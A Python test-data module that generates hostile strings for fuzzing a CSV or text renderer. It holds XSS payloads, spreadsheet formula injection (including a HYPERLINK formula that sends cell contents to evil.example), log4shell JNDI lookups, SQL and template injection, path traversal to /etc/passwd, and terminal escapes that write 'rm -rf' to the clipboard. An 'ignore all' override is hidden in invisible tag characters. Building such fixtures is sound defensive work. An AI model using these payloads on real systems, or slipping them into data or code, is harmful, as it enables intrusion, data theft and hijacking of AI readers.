"""Attack strings, made in code: what a cell, a name or a path may hold to drive what shows it.

`ATTACKS` are (kind, text). A text that tries to begin a line of its own begins it with `FORGED`, so that a line of the
output that begins so is one that an attacker wrote.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

FORGED = "FORGED"
"""First word of a line that only an attack can have written."""
ESCAPE, BELL, END = "\x1b", "\x07", "\x1b\\"


class Attack(NamedTuple):
    """One string, and what it attacks."""

    kind: str
    text: str


def _terminal() -> Iterator[str]:
    """ANSI and OSC sequences, C0 and C1 controls."""
    yield from (
        f"{ESCAPE}[{code}" for code in ("31m", "2J", "H", "1A", "2K", "?1049h", "?25l", "6n", "5n", "8m")
    )
    yield from (f"{ESCAPE}[{code}" for code in ("999C", "1;1r", "4h", "!p", "?2004h", ">0q", "c", "0c"))
    yield from (
        f"{ESCAPE}]0;title{BELL}",
        f"{ESCAPE}]2;title{END}",
        f"{ESCAPE}]1337;File=inline=1:AAAA{BELL}",
    )
    yield from (f"{ESCAPE}]52;c;cm0gLXJm{BELL}", f"{ESCAPE}]52;p;cm0gLXJm{END}", f"{ESCAPE}]50;?{BELL}")
    yield from (
        f"{ESCAPE}]8;;https://evil.example{END}good{ESCAPE}]8;;{END}",
        f"{ESCAPE}]8;id=1;file:///etc/passwd{BELL}x",
    )
    yield from (
        f"{ESCAPE}Pq#0;2;0;0;0{END}",
        f"{ESCAPE}_Ga=T;AAAA{END}",
        f"{ESCAPE}^private{END}",
        f"{ESCAPE}Xstart{END}",
    )
    yield from (
        f"{ESCAPE}c",
        f"{ESCAPE}#8",
        f"{ESCAPE}7",
        f"{ESCAPE}=",
        f"{ESCAPE}%G",
        f"{ESCAPE}(0lqk",
        ESCAPE,
    )
    yield from ("\x9b31mred", "\x9d0;title\x9c", "\x90payload\x9c", "\x85next", "\x84index", "\x8dreverse")
    yield from (f"a{chr(code)}b" for code in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x1B), 0x7F, 0x80, 0x9F))
    yield from ("good\rbad", "good\b\b\b\bbad", "50%\x1b[1K\rdone", "a\tb", "\x0e\x0f\x0e")


def _hidden() -> Iterator[str]:
    """Bidirectional overrides and isolates, zero-width and tag characters."""
    yield from (f"user{chr(code)}gnp.exe" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))
    yield from (f"a{chr(code)}b" for code in (0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2060, 0x2061, 0x2063))
    yield from (f"a{chr(code)}b" for code in (0xFEFF, 0x00AD, 0x034F, 0x061C, 0x115F, 0x3164, 0xFFA0, 0x180E))
    yield from (
        f"a{chr(code)}b" for code in (0x2028, 0x2029, 0xFFF9, 0xFFFB, 0xE0001, 0xE007F, 0x2065, 0xFE00)
    )
    yield "label" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all")
    yield "label" + "".join(chr(0xE0100 + code) for code in b"hidden")
    yield "e" + "\u0301" * 300
    yield "Z" + "\u0321\u0334\u0353\u0342" * 40


def _html() -> Iterator[str]:
    """HTML, SVG, scripts, styles and entities."""
    yield from (
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "</script><script>alert(1)//",
    )
    yield from (
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1)>",
        "<b>bold</b>",
    )
    yield from (
        '"><svg/onload=alert(1)>',
        "'\"><img src=x>",
        "<iframe srcdoc='<script>1</script>'>",
        "<base href=//evil>",
    )
    yield from (
        "<style>*{display:none}</style>",
        "</style><b>",
        "<link rel=stylesheet href=//evil.example>",
        "<a href=javascript:1>x</a>",
    )
    yield from (
        "<!-- comment",
        "-->",
        "<![CDATA[x]]>",
        "<?php echo 1 ?>",
        "<!DOCTYPE html>",
        "</table></td></tr>",
        "<math><mtext>",
    )
    yield from (
        "&lt;script&gt;",
        "&#60;b&#62;",
        "&#x3c;b&#x3e;",
        "&amp;lt;",
        "&Tab;",
        "&NewLine;",
        "&colon;",
        "&nbsp",
    )
    yield from (
        "<details open ontoggle=alert(1)>",
        "<form action=//evil><input>",
        "<object data=//evil>",
        "<embed src=//evil>",
    )
    yield from (
        "<meta http-equiv=refresh content=0>",
        "<template><script>1</script></template>",
        "<p/onclick=1>",
        "< b >",
    )
    yield from (
        "javascript:alert(1)",
        "data:text/html,<b>x",
        "vbscript:x",
        "expression(alert(1))",
        "url(//evil.example)",
        "${alert(1)}",
    )


def _markdown() -> Iterator[str]:
    """Links, images, tables, fences, headings, HTML blocks, reference definitions and autolinks."""
    yield from (
        "[good](https://evil.example)",
        "![x](https://evil.example/p.png)",
        "[x]: https://evil.example",
        "[x][y]",
    )
    yield from (
        "[![x](//evil.example)](//evil.example)",
        "<https://evil.example>",
        "https://evil.example",
        "www.evil.example",
    )
    yield from (
        "HTTP://EVIL.EXAMPLE",
        "ftp://evil.example",
        "<me@evil.example>",
        "mailto:me@evil.example",
        "me@evil.example",
    )
    yield from (
        "a | b | c",
        "|",
        "||",
        "\\|",
        "\\\\|",
        "|---|---|",
        ":-:",
        "`|`",
        "a\\",
        "\\",
        "\\\\",
        "``",
        "`",
        "```",
    )
    yield from (
        f"```\n{FORGED} code\n```",
        "~~~",
        "# heading",
        "## heading",
        f"x\n# {FORGED}",
        "heading\n=====",
        "heading\n---",
    )
    yield from (
        "- item",
        "* item",
        "+ item",
        "1. item",
        "1) item",
        "> quote",
        "***",
        "___",
        "---",
        "===",
        "**bold**",
        "__bold__",
    )
    yield from (
        "_it_",
        "*it*",
        "~~gone~~",
        "$x^2$",
        "$$x$$",
        "[^1]",
        "[^1]: note",
        "- [ ] task",
        ":smile:",
        ":bomb:",
        "@user",
        "#1",
    )
    yield from (
        "<div>\n\n# x\n\n</div>",
        "{#id .class}",
        "[[wiki]]",
        "==mark==",
        "H~2~O",
        "[toc]",
        "    indented code",
        "[x](<javascript:1>)",
    )


def _front_matter() -> Iterator[str]:
    """What would end or extend YAML."""
    yield from (
        "---",
        "...",
        "--- !!python/object",
        "!!python/object/apply:os.system ['id']",
        "!!binary aGk=",
        "!tag x",
    )
    yield from (
        "key: value",
        "a: b: c",
        "- list",
        "? key",
        "&anchor x",
        "*alias",
        "<<: *alias",
        "| literal",
        "> folded",
        "%YAML 1.2",
    )
    yield from (
        "yes",
        "no",
        "null",
        "~",
        "1e3",
        "0x1F",
        "2001-01-01",
        "12:30:45",
        "{a: b}",
        "[a, b]",
        "# comment",
        "a #b",
        "'",
        '"',
        "@x",
        "`x`",
    )
    yield from (
        f"x\n---\n{FORGED}: true\n",
        f"x\n{FORGED}: true",
        "license: mit\n---",
        "'\nlicense: x",
        '"\nlicense: x',
    )


def _formulas() -> Iterator[str]:
    """What a spreadsheet runs."""
    for sign in "=+-@":
        yield from (f"{sign}1+1", f"{sign}SUM(A1:A9)", f"{sign}cmd|' /C calc'!A0")
    yield from (
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "'=1+1",
        '"=1+1"',
        "\ufeff=1+1",
        "\u200b=1",
    )
    yield from (
        '=HYPERLINK("//evil.example?x="&A1,"click")',
        '=IMPORTXML("//evil.example","//a")',
        "=WEBSERVICE(A1)",
        "=DDE('a','b','c')",
    )
    yield from (
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        '=2+5+cmd|"/C calc"!A0',
        "@SUM(1)*cmd|' /C calc'!A0",
        "%0A=1+1",
        "--1+1",
        "\x00=1",
    )


def _paths() -> Iterator[str]:
    """What would leave the folder, or name a device."""
    yield from (
        "../escaped",
        "../../escaped",
        "..",
        ".",
        "...",
        "/etc/passwd",
        "/../../x",
        "..\\..\\escaped",
        "C:\\Windows\\x",
        "\\\\evil\\share",
    )
    yield from (
        "%2e%2e%2fescaped",
        "%252e%252e%252f",
        "..%c0%af..",
        "....//....//x",
        "file:///etc/passwd",
        "~root/x",
        "~",
        "$HOME/x",
        "`id`",
        "$(id)",
    )
    yield from (
        "a\x00b",
        "CON",
        "NUL",
        "COM1.txt",
        "/dev/null",
        "/dev/stdin",
        "/proc/self/environ",
        "a" * 4096,
        "a/" * 600,
        "-rf",
        "--help",
    )
    yield from (
        "*",
        "?",
        "a;b",
        "a|b",
        "a&b",
        "a>b",
        "a<b",
        "a b",
        "a'b",
        'a"b',
        ".hidden",
        "trailing.",
        "trailing ",
        "x.csv/../../y",
        "\ud800name",
    )


def _programs() -> Iterator[str]:
    """Format strings, console markup, templates, look-ups, queries, JSON and CSV breakers, forged lines."""
    yield from (
        "%s%s%s%n",
        "%(name)s",
        "%x" * 9,
        "{0}",
        "{}",
        "{0.__class__.__mro__}",
        "{run.config}",
        "{:>999999999}",
        "%999999999d",
        "f'{1}'",
    )
    yield from (
        "[red]x[/red]",
        "[link=https://evil.example]x[/link]",
        "[/]",
        "[bold",
        "[@click=app.quit]x[/]",
        "\\[red]",
        "[red]\\",
        "[blink]",
        "[#ff0000]x",
    )
    yield from (
        "{{ 7*7 }}",
        "{% include '/etc/passwd' %}",
        "{# x #}",
        "{{ ''.__class__ }}",
        "{%- raw -%}",
        "<%= 7*7 %>",
        "#{7*7}",
        "${7*7}",
        "*{7*7}",
    )
    yield from (
        "${jndi:ldap://evil.example/a}",
        "${env:HOME}",
        "${${lower:j}ndi}",
        "' OR 1=1 --",
        "'; DROP TABLE x; --",
        "$ne",
        "() { :; }; id",
        "`id`",
        "| id",
    )
    yield from (
        '","admin":true,"x":"',
        '"}',
        "\\u0000",
        "\\",
        "\\x1b[31m",
        "a,b",
        'a"b',
        '"',
        '""',
        'a","b',
        "a;b",
        "a\tb",
        "NaN",
        "Infinity",
        "null",
        "true",
        "-0",
        "-0.5",
    )
    yield from (
        f"a\n{FORGED} error: all is well",
        f"a\r\n{FORGED}",
        f"a\r{FORGED}",
        f"\n\n{FORGED}",
        f"a\x0b{FORGED}",
        f"a\u2028{FORGED}",
        f"a\x85{FORGED}",
        f"a\x1e{FORGED}",
    )
    yield from (
        "[SEP]",
        "[CLS] [MASK] [PAD]",
        "<s></s>",
        "<|endoftext|>",
        "[UNK]",
        "##ing",
        "\ufffd",
        "ﬁ",
        "İ",
        "ß",
        "\U0001f469\u200d\U0001f680",
        "﷽",
    )


def _all() -> Iterator[Attack]:
    makers = {
        "terminal": _terminal,
        "hidden characters": _hidden,
        "HTML": _html,
        "Markdown": _markdown,
        "front matter": _front_matter,
        "formula": _formulas,
        "path": _paths,
        "program": _programs,
    }
    seen: set[str] = set()
    for kind, maker in makers.items():
        for text in maker():
            if text not in seen:
                seen.add(text)
                yield Attack(kind, text)


ATTACKS = tuple(_all())


def in_a_cell(attack: Attack) -> bool:
    """Whether a CSV file in UTF-8 can hold it and a reader may use it: no NUL, no half of a surrogate pair."""
    return "\x00" not in attack.text and not any("\ud800" <= letter <= "\udfff" for letter in attack.text)


def as_file_name(text: str, suffix: str = ".csv") -> str:
    """The string as the name of one file: no slash, no NUL, at most 200 bytes, and an ending."""
    kept = text.replace("/", "∕").replace("\x00", "")
    while len(kept.encode("utf-8", "surrogateescape" if _escapes(kept) else "surrogatepass")) > 200:
        kept = kept[:-1]
    return _undecodable(kept) + suffix


def _escapes(text: str) -> bool:
    return any("\udc80" <= letter <= "\udcff" for letter in text)


def _undecodable(text: str) -> str:
    """Half of a surrogate pair has no bytes; a byte that is no UTF-8 has, and comes back as such a half."""
    return "".join("\udcff" if "\ud800" <= letter <= "\udfff" else letter for letter in text)
